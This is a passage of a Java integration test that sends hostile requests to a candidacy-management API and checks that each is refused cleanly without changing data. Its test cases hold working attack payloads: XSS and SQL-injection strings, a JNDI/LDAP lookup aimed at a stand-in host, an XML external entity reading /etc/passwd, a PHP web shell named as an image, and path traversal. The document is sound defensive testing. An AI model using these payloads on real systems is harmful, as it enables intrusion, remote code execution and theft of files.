package fr.jalon;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.Socket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.OffsetDateTime;
import java.time.ZoneOffset;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Random;
import java.util.Set;
import java.util.function.BiConsumer;
import java.util.function.Function;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import java.util.stream.StreamSupport;
import java.util.zip.Deflater;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.ActiveProfiles;

/**
 * Hostile input, sent byte for byte over a plain socket so that nothing in between tidies it up:
 * malformed, oversized and malicious requests to every endpoint of API.md that takes input. Each is
 * refused with a 4xx problem detail (never a 5xx, never an HTML page, never a stack trace) and
 * leaves every table as it was. A few odd but harmless inputs are accepted, and must come back
 * exactly as sent (markup stays text in JSON) or, for file names, reduced to a safe last segment.
 * <p>
 * Bodies are read strictly (API.md): an unknown field is refused, named, before the rest of the
 * body is judged, so that it can never set what the server decides (id, status, stage, referential
 * version).
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.RANDOM_PORT,
		properties = "jalon.test.database=hostile")
@ActiveProfiles("test")
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputTests {

	private static final ObjectMapper JSON = new ObjectMapper();

	private static final int MB = 1024 * 1024;

	private static final String ALBI = "mairie-albi";

	private static final String ADMIN = "admin";

	private static final String CANDIDACIES = "/api/candidacies";

	private static final String UPLOAD = "/api/candidacies/{candidacy}/documents";

	private static final String CHARTER_TASK = "/api/tasks/{charterTask}/complete";

	private static final String CONTRACT_TASK = "/api/tasks/{contractTask}/complete";

	private static final String VERSIONS = "/api/referentials/ecoquartier/versions";

	private static final String CAMPAIGNS = "/api/campaigns";

	private static final String WITHDRAW = "/api/candidacies/{withdrawable}/withdraw";

	@LocalServerPort
	int port;

	@Autowired
	JdbcTemplate jdbc;

	/** What the cases act on, made once before them. */
	Fixture fixture;

	/** Every table's row count (and the candidacies' versions) as they should still be. */
	String baseline;

	Counts before;

	int acceptedCandidacies;

	int acceptedDocuments;

	@BeforeAll
	void prepare() throws Exception {
		Fixture f = new Fixture();
		fixture = f;
		f.candidacy = created("Cible des requêtes hostiles");
		f.charterTask = task(ALBI, f.candidacy, "SubmitCharter");
		f.withdrawable = created("Candidature à ne pas retirer");
		f.contractCandidacy = created("Dossier d'engagement ciblé");
		JsonNode referential = JSON.readTree(call(ALBI, "GET", "/api/referentials/ecoquartier").body);
		f.referential = referential.toString();
		f.criteria = referential.findValues("criteria")
			.stream()
			.flatMap(list -> StreamSupport.stream(list.spliterator(), false))
			.map(node -> node.get("id").asText())
			.toList();
		f.indicators = referential.findValues("indicators")
			.stream()
			.flatMap(list -> StreamSupport.stream(list.spliterator(), false))
			.map(node -> node.get("id").asText())
			.toList();
		uploadPdf(f.contractCandidacy);
		completeOk(ALBI, task(ALBI, f.contractCandidacy, "SubmitCharter"), "{\"outcome\":\"SUBMIT\"}");
		completeOk("ddt-81", task("ddt-81", f.contractCandidacy, "VerifyCharter"), "{\"outcome\":\"APPROVE\"}");
		f.contractTask = task(ALBI, f.contractCandidacy, "SubmitContract");
		JsonNode campaigns = JSON.readTree(call(ADMIN, "GET", "/api/campaigns?programme=pvd").body);
		f.campaign = campaigns.get(0).get("id").asText();
		fixture = f;
		baseline = fingerprint();
		before = counts();
	}

	/** The same story told by the API to an administrator: only the accepted cases added anything. */
	@AfterAll
	void nothingElseChanged() throws Exception {
		Counts after = counts();
		assertThat(after.candidacies).isEqualTo(before.candidacies + acceptedCandidacies);
		assertThat(after.documents).isEqualTo(before.documents + acceptedDocuments);
		assertThat(after.versions).isEqualTo(before.versions);
		assertThat(after.campaigns).isEqualTo(before.campaigns);
		JsonNode withdrawable = JSON.readTree(call(ADMIN, "GET", "/api/candidacies/" + fixture.withdrawable).body);
		assertThat(withdrawable.get("status").asText()).isEqualTo("IN_PROGRESS");
		assertThat(task(ALBI, fixture.candidacy, "SubmitCharter")).isEqualTo(fixture.charterTask);
		assertThat(task(ALBI, fixture.contractCandidacy, "SubmitContract")).isEqualTo(fixture.contractTask);
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("refused")
	void refusesWithAProblemAndChangesNothing(Case hostile) throws Exception {
		boolean unchanged = false;
		long start = System.nanoTime();
		Reply reply = null;
		try {
			reply = send(hostile);
			String shown = hostile.name + " → " + reply;
			assertThat(reply.status).as(shown).isBetween(400, 499);
			if (!hostile.statuses.isEmpty()) {
				assertThat(hostile.statuses).as(shown).contains(reply.status);
			}
			if (reply.body.length > 0) {
				assertThat(reply.header("content-type")).as(shown).startsWith("application/problem+json");
				JsonNode problem = JSON.readTree(reply.body);
				assertThat(problem.path("status").asInt()).as(shown).isEqualTo(reply.status);
				assertThat(problem.path("type").asText()).as(shown).isNotBlank();
				assertThat(problem.path("title").asText()).as(shown).isNotBlank();
				assertThat(problem.path("detail").asText()).as(shown).isNotBlank();
				if (hostile.errorField != null) {
					assertThat(problem.path("errors").findValuesAsText("field")).as(shown).contains(hostile.errorField);
				}
			}
			else {
				assertThat(hostile.bodyless).as(shown + ": an answer without a problem detail").isTrue();
			}
			assertThat(reply.text()).as(shown).doesNotContain("Exception", "\tat ", "at org.", "at java.", "<html");
			assertThat(fingerprint()).as(hostile.name + ": data changed").isEqualTo(baseline);
			unchanged = true;
		}
		finally {
			if (!unchanged) {
				baseline = fingerprint();
			}
			long millis = (System.nanoTime() - start) / 1_000_000;
			if (millis > 2000) {
				System.out.println("SLOW " + millis + " ms: " + hostile.name + " → " + reply);
			}
		}
	}

	@ParameterizedTest(name = "{0}")
	@MethodSource("accepted")
	void acceptsHarmlessOddities(Case odd) throws Exception {
		try {
			Reply reply = send(odd);
			assertThat(reply.status).as(odd.name + " → " + reply).isBetween(200, 299);
			odd.check.accept(reply, this);
		}
		finally {
			baseline = fingerprint();
		}
	}

	// =====================================================================================
	// The refused cases
	// =====================================================================================

	static Stream<Arguments> refused() {
		List<Case> cases = new ArrayList<>();
		candidacyCases(cases);
		completionCases(cases);
		uploadCases(cases);
		referentialCases(cases);
		campaignCases(cases);
		withdrawalCases(cases);
		queryCases(cases);
		headerAndPathCases(cases);
		textRuleCases(cases);
		assertThat(cases).hasSizeGreaterThanOrEqualTo(200);
		assertThat(cases.stream().map(c -> c.name).distinct().count()).isEqualTo(cases.size());
		return cases.stream().map(Arguments::of);
	}

	private static void candidacyCases(List<Case> cases) {
		// Broken JSON, in many ways.
		String[] broken = { "", "{", "{\"programme\":", "{\"programme\":\"ecoquartier\",}",
				"{'programme':'ecoquartier','collectivite':'81004','title':'x'}", "{\"title\":\"unterminated}",
				"{\"title\":\"bad escape \\q\"}", "{\"title\": NaN}", "{\"title\": 01}", "null", "42",
				"/* comment */ {}", "[[[[[[[[[[",
				"{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":\"x\"" };
		for (int i = 0; i < broken.length; i++) {
			cases.add(post("candidacy: broken JSON #" + (i + 1) + " " + abbreviate(broken[i]), CANDIDACIES)
				.json(broken[i])
				.expect(400));
		}
		cases.add(post("candidacy: raw control character inside a string", CANDIDACIES)
			.json(base("title", "a\u0001b").replace("\\u0001", "\u0001"))
			.expect(400));
		cases.add(post("candidacy: raw newline inside a string", CANDIDACIES)
			.json(base("title", "a\nb").replace("\\n", "\n"))
			.expect(400));
		cases.add(post("candidacy: raw NUL byte in the body", CANDIDACIES).json("{\"title\":\"a\u0000b\"}").expect(400));
		cases.add(post("candidacy: invalid UTF-8 in a string", CANDIDACIES)
			.body("application/json",
					concat("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":\"".getBytes(StandardCharsets.UTF_8),
							new byte[] { (byte) 0xC3, (byte) 0x28 }, "\"}".getBytes(StandardCharsets.UTF_8)))
			.expect(400));
		cases.add(post("candidacy: overlong UTF-8 quote", CANDIDACIES)
			.body("application/json", concat("{\"title\":\"a".getBytes(StandardCharsets.UTF_8),
					new byte[] { (byte) 0xC0, (byte) 0xA2 }, "\"}".getBytes(StandardCharsets.UTF_8)))
			.expect(400));
		cases.add(post("candidacy: body cut inside a multi-byte character", CANDIDACIES)
			.body("application/json", Arrays.copyOf("{\"title\":\"é".getBytes(StandardCharsets.UTF_8), 11))
			.expect(400));
		cases.add(post("candidacy: UTF-16 body missing its title", CANDIDACIES)
			.body("application/json", "{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\"}"
				.getBytes(StandardCharsets.UTF_16))
			.expect(400));

		// Deeply nested JSON.
		cases.add(post("candidacy: title nested 10,000 arrays deep", CANDIDACIES)
			.json("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":" + arrays(10_000) + "}")
			.expect(400));
		cases.add(post("candidacy: unknown field nested 10,000 objects deep", CANDIDACIES)
			.json("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":\"x\",\"x\":" + objects(10_000)
					+ "}")
			.expect(400));
		cases.add(post("candidacy: unknown field nested 100,000 arrays deep", CANDIDACIES)
			.json("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":\"x\",\"x\":" + arrays(100_000)
					+ "}")
			.expect(400));
		cases.add(post("candidacy: unknown field nested 1,001 deep", CANDIDACIES)
			.json("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":\"x\",\"x\":" + arrays(1_001)
					+ "}")
			.expect(400));
		cases.add(post("candidacy: body nested 10,000 arrays deep", CANDIDACIES).json(arrays(10_000)).expect(400));
		cases.add(post("candidacy: partners nested 2,000 deep", CANDIDACIES)
			.json("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":\"x\",\"partners\":"
					+ arrays(2_000) + "}")
			.expect(400));

		// Wrong types, field by field.
		Object[][] wrong = { { "programme", List.of() }, { "programme", Map.of() }, { "programme", List.of("ecoquartier") },
				{ "programme", null }, { "collectivite", List.of() }, { "collectivite", null }, { "title", List.of() },
				{ "title", null }, { "title", Map.of("$gt", "") }, { "description", List.of() },
				{ "partners", "200066660" }, { "partners", List.of(Map.of()) },
				{ "partners", Arrays.asList((Object) null) }, { "partners", List.of("", "") },
				{ "partners", IntStream.range(0, 21).mapToObj(i -> "81004").toList() }, { "campaign", List.of() },
				{ "title", 12 }, { "description", true }, { "partners", List.of(81004) }, { "campaign", 3.5 } };
		for (Object[] field : wrong) {
			cases.add(post("candidacy: " + field[0] + " = " + abbreviate(String.valueOf(field[1])) + " ("
					+ (field[1] == null ? "null" : field[1].getClass().getSimpleName()) + ")", CANDIDACIES)
				.json(base((String) field[0], field[1]))
				.expect(400));
		}
		cases.add(post("candidacy: an array of candidacies", CANDIDACIES).json("[" + base("title", "x") + "]").expect(400));
		cases.add(post("candidacy: a string holding the JSON", CANDIDACIES)
			.json(write(base("title", "x")))
			.expect(400));

		// Huge strings: a body past 512 KB is refused whole (413) before any field is read; below that, each field
		// names its own bound.
		cases.add(post("candidacy: title of 1 MB", CANDIDACIES).json(f -> base("title", "T".repeat(MB))).expect(413));
		cases.add(post("candidacy: title of 10 MB", CANDIDACIES).json(f -> base("title", "T".repeat(10 * MB)))
			.expect(413));
		cases.add(post("candidacy: title of 201 characters", CANDIDACIES).json(base("title", "T".repeat(201)))
			.expect(400)
			.field("title"));
		cases.add(post("candidacy: description of 1 MB", CANDIDACIES)
			.json(f -> base("description", "D".repeat(MB)))
			.expect(413));
		cases.add(post("candidacy: programme of 1 MB", CANDIDACIES).json(f -> base("programme", "p".repeat(MB)))
			.expect(413));
		cases.add(post("candidacy: collectivite of 1 MB", CANDIDACIES).json(f -> base("collectivite", "8".repeat(MB)))
			.expect(413));
		cases.add(post("candidacy: field name of 1 MB", CANDIDACIES)
			.json(f -> "{\"" + "k".repeat(MB) + "\":1,\"programme\":\"ecoquartier\"}")
			.expect(400));
		cases.add(post("candidacy: unknown field of 10 MB and no title", CANDIDACIES)
			.json(f -> write(obj("programme", "ecoquartier", "collectivite", "81004", "x", "x".repeat(10 * MB))))
			.expect(413));
		cases.add(post("candidacy: 1,000 partners", CANDIDACIES)
			.json(f -> base("partners", IntStream.range(0, 1_000).mapToObj(Integer::toString).toList()))
			.expect(400));
		cases.add(post("candidacy: a number of 10,000 digits as title", CANDIDACIES)
			.json(f -> "{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\",\"title\":" + "9".repeat(10_000)
					+ "}")
			.expect(400));
		cases.add(post("candidacy: 200 emoji as title (400 chars)", CANDIDACIES).json(base("title", "🌳".repeat(200)))
			.expect(400)
			.field("title"));

		// Control characters, NUL and broken Unicode in texts.
		String[][] controls = { { "NUL alone", "\u0000" }, { "NUL inside", "Quartier\u0000Nord" },
{ "ANSI escape", "\u001b[31mQuartier" }, { "newline", "Quartier\nNord" },
				{ "CRLF header injection", "Quartier\r\nX-Injected: 1" }, 
{ "C1 control", "Quartier\u0085" }, { "lone high surrogate", "Quartier\ud800" },
				{ "lone low surrogate", "\udfffQuartier" } };
		for (String[] control : controls) {
			cases.add(post("candidacy: title with " + control[0], CANDIDACIES).json(base("title", control[1]))
				.expect(400)
				.field("title"));
		}
		cases.add(post("candidacy: description with NUL", CANDIDACIES).json(base("description", "a\u0000b"))
			.expect(400)
			.field("description"));
		cases.add(post("candidacy: description with a lone surrogate", CANDIDACIES)
			.json(base("description", "a\ud83db"))
			.expect(400)
			.field("description"));

		// Unknown programmes and collectivités carrying payloads.
		String[] programmes = { "<script>alert(1)</script>", "ecoquartier' OR '1'='1", "../pvd", "ECOQUARTIER",
				"${jndi:ldap://evil.example/a}", "pvd" };
		for (String programme : programmes) {
			cases.add(post("candidacy: programme " + abbreviate(programme), CANDIDACIES).json(base("programme", programme))
				.expect(400));
		}
		String[] codes = { "81004' OR '1'='1", "<img src=x onerror=alert(1)>", "../../81004", "81004\u0000", "12202" };
		for (String code : codes) {
			cases.add(post("candidacy: collectivite " + abbreviate(code), CANDIDACIES).json(base("collectivite", code))
				.expect(400, 403));
		}

		// Unknown fields: refused, named, whatever the rest of the body.
		cases.add(post("candidacy: unknown 'admin' field, no programme", CANDIDACIES)
			.json(write(obj("collectivite", "81004", "title", "x", "admin", true)))
			.expect(400)
			.field("admin"));
		cases.add(post("candidacy: unknown 'status' field, no title", CANDIDACIES)
			.json(write(obj("programme", "ecoquartier", "collectivite", "81004", "status", "LABELLED")))
			.expect(400)
			.field("status"));
		cases.add(post("candidacy: unknown '__proto__' field, no collectivite", CANDIDACIES)
			.json(write(obj("programme", "ecoquartier", "title", "x", "__proto__", Map.of("admin", true))))
			.expect(400)
			.field("__proto__"));
		cases.add(post("candidacy: unknown 'id' and 'history' fields, blank title", CANDIDACIES)
			.json(write(obj("programme", "ecoquartier", "collectivite", "81004", "title", " ", "id", "chosen",
					"history", List.of(Map.of("event", "LABELLED")))))
			.expect(400)
			.field("id"));
		cases.add(post("candidacy: unknown fields deciding id, status, stage and version, body otherwise valid",
				CANDIDACIES)
			.json(write(obj("programme", "ecoquartier", "collectivite", "81004", "title", "Champs inconnus", "id",
					"chosen-id", "status", "LABELLED", "stage", "VALIDATION", "referentialVersion", 99, "createdAt",
					"2000-01-01T00:00:00Z", "history", List.of(Map.of("event", "LABELLED")), "admin", true)))
			.expect(400)
			.field("id"));

		// Not a reviewer's business.
		cases.add(post("candidacy: submitted by a DDT", CANDIDACIES).as("ddt-81").json(base("title", "x")).expect(403));
		cases.add(post("candidacy: without credentials", CANDIDACIES).as(null).json(base("title", "x")).expect(401));

		// Wrong content types.
		cases.add(post("candidacy: text/plain", CANDIDACIES).body("text/plain", base("title", "x")).expect(415));
		cases.add(post("candidacy: application/xml", CANDIDACIES)
			.body("application/xml",
					"<candidacy><programme>ecoquartier</programme><collectivite>81004</collectivite><title>x</title></candidacy>")
			.expect(415));
		cases.add(post("candidacy: XML external entity", CANDIDACIES)
			.body("text/xml",
					"<?xml version=\"1.0\"?><!DOCTYPE t [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><t>&x;</t>")
			.expect(415));
		cases.add(post("candidacy: multipart where JSON is expected", CANDIDACIES)
			.multipart(part("programme", null, null, "ecoquartier"), part("collectivite", null, null, "81004"),
					part("title", null, null, "x"))
			.expect(415));
		cases.add(post("candidacy: form-urlencoded", CANDIDACIES)
			.body("application/x-www-form-urlencoded", "programme=ecoquartier&collectivite=81004&title=x")
			.expect(415));
		cases.add(post("candidacy: no content type", CANDIDACIES).body(null, base("title", "x")).expect(415));
		cases.add(post("candidacy: malformed content type", CANDIDACIES).body("garbage", base("title", "x")).expect(415));
		cases.add(post("candidacy: merge-patch JSON", CANDIDACIES)
			.body("application/merge-patch+json", base("title", "x"))
			.expect(415));
		cases.add(post("candidacy: a PNG image", CANDIDACIES).body("image/png", png()).expect(415));
		cases.add(post("candidacy: JSON with an unknown charset and no title", CANDIDACIES)
			.body("application/json;charset=x-unknown-charset", "{\"programme\":\"ecoquartier\"}")
			.expect(400, 415));
		cases.add(post("candidacy: asks for HTML, no title", CANDIDACIES)
			.json("{\"programme\":\"ecoquartier\",\"collectivite\":\"81004\"}")
			.header("Accept", "text/html")
			.expect(400, 406));
		cases.add(post("candidacy: PUT on the collection", CANDIDACIES).method("PUT").json(base("title", "x")).expect(405));
		cases.add(post("candidacy: DELETE on a candidacy", "/api/candidacies/{candidacy}").method("DELETE").expect(405));
	}

	private static void completionCases(List<Case> cases) {
		String[] broken = { "", "{", "{\"outcome\":\"SUBMIT\",}", "null", "[\"SUBMIT\"]" };
		for (int i = 0; i < broken.length; i++) {
			cases.add(post("completion: broken JSON #" + (i + 1) + " " + abbreviate(broken[i]), CHARTER_TASK)
				.json(broken[i])
				.expect(400));
		}
		Object[] outcomes = { null, "", "GRANT", "submit", "APPROVE", List.of(), "<script>alert(1)</script>",
				"SUBMIT\u0000", "SUBMIT' OR '1'='1" };
		for (Object outcome : outcomes) {
			cases.add(post("completion: outcome " + abbreviate(String.valueOf(outcome)) + " ("
					+ (outcome == null ? "null" : outcome.getClass().getSimpleName()) + ")", CHARTER_TASK)
				.json(write(obj("outcome", outcome)))
				.expect(400, 422));
		}
		cases.add(post("completion: outcome of 1 MB", CHARTER_TASK).json(f -> write(obj("outcome", "S".repeat(MB))))
			.expect(413));
		cases.add(post("completion: comment of 4,001 characters", CHARTER_TASK)
			.json(write(obj("outcome", "SUBMIT", "comment", "c".repeat(4001))))
			.expect(400)
			.field("comment"));
		cases.add(post("completion: comment of 10 MB", CHARTER_TASK)
			.json(f -> write(obj("outcome", "SUBMIT", "comment", "c".repeat(10 * MB))))
			.expect(413));
		cases.add(post("completion: comment as array", CHARTER_TASK).json(write(obj("outcome", "SUBMIT", "comment", List.of())))
			.expect(400));
		cases.add(post("completion: comment as object", CHARTER_TASK)
			.json(write(obj("outcome", "SUBMIT", "comment", Map.of("a", 1))))
			.expect(400));
		cases.add(post("completion: comment with NUL", CHARTER_TASK)
			.json(write(obj("outcome", "SUBMIT", "comment", "a\u0000b")))
			.expect(400)
			.field("comment"));
		cases.add(post("completion: comment with a lone surrogate", CHARTER_TASK)
			.json(write(obj("outcome", "SUBMIT", "comment", "a\udc00b")))
			.expect(400)
			.field("comment"));
		Object[][] assessments = { { "a string", "x" }, { "an array", List.of() },
				{ "an unknown criterion", Map.of("E99", Map.of("level", "SATISFACTORY")) },
				{ "a level as plain string", Map.of("E01", "SATISFACTORY") },
				{ "an unknown level", Map.of("E01", Map.of("level", "EXCELLENT")) },
				{ "a level as array", Map.of("E01", Map.of("level", List.of())) },
				{ "a null entry", nullValued("E01") }, { "a markup criterion", Map.of("<script>", Map.of("level", "SATISFACTORY")) },
				{ "a SQL criterion", Map.of("E01' OR '1'='1", Map.of("level", "SATISFACTORY")) } };
		for (Object[] assessment : assessments) {
			cases.add(post("completion: assessment with " + assessment[0], CHARTER_TASK)
				.json(write(obj("outcome", "SUBMIT", "assessment", assessment[1])))
				.expect(400));
		}
		cases.add(post("completion: assessment of 10,000 unknown criteria", CHARTER_TASK)
			.json(f -> write(obj("outcome", "SUBMIT", "assessment", IntStream.range(0, 10_000)
				.boxed()
				.collect(Collectors.toMap(i -> "X" + i, i -> Map.of("level", "SATISFACTORY"))))))
			.expect(400));
		Object[][] indicators = { { "a string", "x" }, { "an array", List.of() },
				{ "an unknown indicator", Map.of("I99", Map.of("target", 1)) } };
		for (Object[] indicator : indicators) {
			cases.add(post("completion: indicators with " + indicator[0], CHARTER_TASK)
				.json(write(obj("outcome", "SUBMIT", "indicators", indicator[1])))
				.expect(400));
		}
		cases.add(post("completion: indicator target as text", CHARTER_TASK)
			.json(f -> write(obj("outcome", "SUBMIT", "indicators", Map.of(f.indicators.get(0), Map.of("target", "abc")))))
			.expect(400));
		cases.add(post("completion: indicator target as array", CHARTER_TASK)
			.json(f -> write(obj("outcome", "SUBMIT", "indicators", Map.of(f.indicators.get(0), Map.of("target", List.of())))))
			.expect(400));
		cases.add(post("completion: data as a string", CHARTER_TASK).json(write(obj("outcome", "SUBMIT", "data", "x")))
			.expect(400));
		cases.add(post("completion: data as an array", CHARTER_TASK).json(write(obj("outcome", "SUBMIT", "data", List.of())))
			.expect(400));
		cases.add(post("completion: data nested 10,000 deep", CHARTER_TASK)
			.json("{\"outcome\":\"SUBMIT\",\"data\":{\"x\":" + objects(10_000) + "}}")
			.expect(400));
		cases.add(post("completion: data of 10,000 undeclared entries, charter missing", CHARTER_TASK)
			.json(f -> write(obj("outcome", "SUBMIT", "data",
					IntStream.range(0, 10_000).boxed().collect(Collectors.toMap(i -> "k" + i, i -> i)))))
			.expect(400));
		cases.add(post("completion: unknown fields, charter missing", CHARTER_TASK)
			.json(write(obj("outcome", "SUBMIT", "taskId", "other", "actor", "admin", "candidacyId", "other")))
			.expect(400)
			.field("taskId"));
		cases.add(post("completion: text/plain", CHARTER_TASK).body("text/plain", "{\"outcome\":\"SUBMIT\"}").expect(415));
		cases.add(post("completion: application/xml", CHARTER_TASK)
			.body("application/xml", "<completion><outcome>SUBMIT</outcome></completion>")
			.expect(415));
		cases.add(post("completion: form-urlencoded", CHARTER_TASK)
			.body("application/x-www-form-urlencoded", "outcome=SUBMIT")
			.expect(415));
		cases.add(post("completion: multipart", CHARTER_TASK).multipart(part("outcome", null, null, "SUBMIT")).expect(415));
		cases.add(post("completion: GET", CHARTER_TASK).method("GET").expect(405));
		cases.add(post("completion: DELETE", CHARTER_TASK).method("DELETE").expect(405));
		cases.add(post("completion: markup task id", "/api/tasks/%3Cscript%3E/complete").json("{\"outcome\":\"SUBMIT\"}")
			.expect(404));
		cases.add(post("completion: SQL task id", "/api/tasks/%27%20OR%20%271%27%3D%271/complete")
			.json("{\"outcome\":\"SUBMIT\"}")
			.expect(404));
		cases.add(post("completion: by a DDT", CHARTER_TASK).as("ddt-81").json("{\"outcome\":\"SUBMIT\"}").expect(403));
		cases.add(post("completion: by another collectivité", CHARTER_TASK).as("mairie-rodez")
			.json("{\"outcome\":\"SUBMIT\"}")
			.expect(404));

		// Where the step stores what it receives: every assessment and indicator is otherwise complete,
		// so one bad value is all that stands between the request and a stored dossier.
		cases.add(post("contract: an assessment comment of 5,000 characters", CONTRACT_TASK)
			.json(f -> contract(f, "comment", "c".repeat(5000), null))
			.expect(400));
		cases.add(post("contract: an assessment comment with NUL", CONTRACT_TASK)
			.json(f -> contract(f, "comment", "a\u0000b", null))
			.expect(400));
		cases.add(post("contract: an assessment level of 1 MB", CONTRACT_TASK)
			.json(f -> contract(f, "level", "L".repeat(MB), null))
			.expect(413));
		cases.add(post("contract: an indicator target NaN", CONTRACT_TASK).json(f -> contract(f, null, null, "NaN"))
			.expect(400));
		cases.add(post("contract: an indicator target Infinity", CONTRACT_TASK)
			.json(f -> contract(f, null, null, "Infinity"))
			.expect(400));
		cases.add(post("contract: an indicator target -Infinity", CONTRACT_TASK)
			.json(f -> contract(f, null, null, "-Infinity"))
			.expect(400));
		cases.add(post("contract: an indicator target 1e999 as text", CONTRACT_TASK)
			.json(f -> contract(f, null, null, "1e999"))
			.expect(400));
		cases.add(post("contract: an indicator target 1e999 as number literal", CONTRACT_TASK)
			.json(f -> contract(f, null, null, "1e999").replace("\"1e999\"", "1e999"))
			.expect(400));
		cases.add(post("contract: a null indicator", CONTRACT_TASK)
			.json(f -> contract(f, null, null, null).replaceFirst("\\{\"target\":10.0\\}", "null"))
			.expect(400));
		cases.add(post("contract: a completion comment of 4,001 characters", CONTRACT_TASK)
			.json(f -> contract(f, null, null, null).replace("\"outcome\":\"SUBMIT\"",
					"\"outcome\":\"SUBMIT\",\"comment\":\"" + "c".repeat(4001) + "\""))
			.expect(400));
	}

	private static void uploadCases(List<Case> cases) {
		Object[][] contents = { { "a text file named .pdf", "charte.pdf", utf8("Ceci n'est pas un PDF.") },
				{ "an HTML file", "page.html", utf8("<!DOCTYPE html><html><body>Bonjour</body></html>") },
				{ "an HTML file with script named .pdf", "charte.pdf",
						utf8("<html><script>alert(document.cookie)</script></html>") },
				{ "a zip named .pdf", "charte.pdf", zip() }, 
				{ "an SVG with script", "image.svg",
						utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"><script>alert(2)</script></svg>") },
				{ "a PHP script named .jpg", "shell.php.jpg", utf8("<?php system($_GET['c']); ?>") },
				{ "a Windows executable named .pdf", "charte.pdf", bytes(0x4D, 0x5A, 0x90, 0x00, 0x03, 0x00, 0x00, 0x00) },
				{ "a BMP named .jpg", "photo.jpg", bytes(0x42, 0x4D, 0x3A, 0, 0, 0, 0, 0, 0, 0, 0x36, 0, 0, 0, 0x28, 0) },
				{ "random bytes", "charte.pdf", random(4096) },
				{ "an HTML file with a traversal name", "../../static/index.html", utf8("<html><script>alert(1)</script></html>") } };
		for (Object[] content : contents) {
			cases.add(post("upload: " + content[0], UPLOAD)
				.multipart(part("type", null, null, "photo"), part("file", (String) content[1], "application/pdf",
						(byte[]) content[2]))
				.expect(415));
		}
		cases.add(post("upload: an empty file", UPLOAD)
			.multipart(part("type", null, null, "photo"), part("file", "vide.pdf", "application/pdf", new byte[0]))
			.expect(400));
		cases.add(post("upload: a PDF of 20 MB and one byte", UPLOAD)
			.multipart(f -> List.of(part("type", null, null, "photo"),
					part("file", "grand.pdf", "application/pdf", pdfOfSize(20 * MB + 1))))
			.expect(413));
		cases.add(post("upload: a PDF bomb of 25 MB (deflate stream of noise)", UPLOAD)
			.multipart(f -> List.of(part("type", null, null, "photo"),
					part("file", "bombe.pdf", "application/pdf", pdfWithStream(random(25 * MB)))))
			.expect(413));
		cases.add(post("upload: two parts of 11 MB each", UPLOAD)
			.multipart(f -> List.of(part("type", null, null, "photo"),
					part("file", "a.pdf", "application/pdf", pdfOfSize(11 * MB)),
					part("other", "b.pdf", "application/pdf", pdfOfSize(11 * MB))))
			.expect(413));
		cases.add(post("upload: NUL in the file name", UPLOAD)
			.multipart(part("type", null, null, "photo"), part("file", "a\u0000b.pdf", "application/pdf", Api.pdf("x")))
			.expect(400));
		cases.add(post("upload: a file name of 1,000 characters (part headers over Tomcat's limit)", UPLOAD)
			.multipart(part("type", null, null, "photo"), part("file", "n".repeat(1000) + ".pdf", "application/pdf", Api.pdf("x")))
			.expect(400, 413));
		cases.add(post("upload: no file part", UPLOAD).multipart(part("type", null, null, "photo")).expect(400).field("file"));
		cases.add(post("upload: no type part", UPLOAD).multipart(part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(400)
			.field("type"));
		cases.add(post("upload: no parts at all", UPLOAD).multipart().expect(400));
		cases.add(post("upload: the file as a plain field", UPLOAD)
			.multipart(part("type", null, null, "photo"), part("file", null, null, Api.pdf("x")))
			.expect(400));
		cases.add(post("upload: the type as a file", UPLOAD)
			.multipart(part("type", "type.txt", "text/plain", utf8("photo")),
					part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(400));
		String[] types = { "", "<script>alert(1)</script>", "photo\u0000", "PHOTO", "photo' OR '1'='1",
				"../../etc/passwd" };
		for (String type : types) {
			cases.add(post("upload: type " + abbreviate(type), UPLOAD)
				.multipart(part("type", null, null, type), part("file", "c.pdf", "application/pdf", Api.pdf("x")))
				.expect(400));
		}
		cases.add(post("upload: type of 100 KB", UPLOAD)
			.multipart(part("type", null, null, "t".repeat(100_000)), part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(400));
		cases.add(post("upload: type given twice", UPLOAD)
			.multipart(part("type", null, null, "photo"), part("type", null, null, "other"),
					part("file", "c.pdf", "application/pdf", Api.pdf("x")))
			.expect(400));
		byte[] wellFormed = multipartBody("BBBBBBBB",
				List.of(part("type", null, null, "photo"), part("file", "c.pdf", "application/pdf", Api.pdf("x"))));
		cases.add(post("upload: boundary in the header differs from the body's", UPLOAD)
			.body("multipart/form-data; boundary=AAAAAAAA", wellFormed)
			.expect(400));
